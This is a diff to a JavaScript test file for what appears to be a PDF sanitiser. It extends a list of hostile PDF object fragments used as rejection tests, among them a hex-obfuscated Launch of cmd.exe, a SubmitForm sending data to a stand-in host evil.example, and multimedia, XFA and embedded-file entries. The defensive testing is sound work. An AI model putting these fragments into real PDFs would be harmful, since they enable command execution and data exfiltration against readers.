@@ -24,9 +24,15 @@ const attacks = {
     '<< /S /#4c#61unch /F (cmd.exe) >>',
     '<< /A << /S/SubmitForm/F(http://evil.example) >> >>',
     '<< /Subtype /RichMedia >>',
+    '<< /Subtype /Movie /Movie 5 0 R >>',
+    '<< /S /Sound /Sound 5 0 R >>',
     '<< /AcroForm << /XFA 9 0 R >> >>',
   ],
-  filledPdf: ['<< /Names << /EmbeddedFiles 7 0 R >> >>', '<< /Type /EmbeddedFile /Subtype /text#2Fhtml >>'],
+  filledPdf: [
+    '<< /Names << /EmbeddedFiles 7 0 R >> >>',
+    '<< /Type /EmbeddedFile /Subtype /text#2Fhtml >>',
+    '<< /Subtype /FileAttachment /FS << /EF << /F 8 0 R >> >> >>',
+  ],
 }
 
 test('a PDF that is only to be read is taken', async () => {
